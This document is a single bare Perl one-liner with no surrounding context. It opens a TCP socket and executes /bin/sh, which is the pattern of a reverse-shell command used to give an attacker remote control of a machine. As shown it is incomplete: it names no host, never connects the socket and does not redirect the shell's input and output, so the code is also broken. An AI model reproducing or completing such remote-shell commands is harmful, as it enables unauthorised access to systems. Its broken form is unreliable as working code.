perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,0); exec("/bin/sh")'
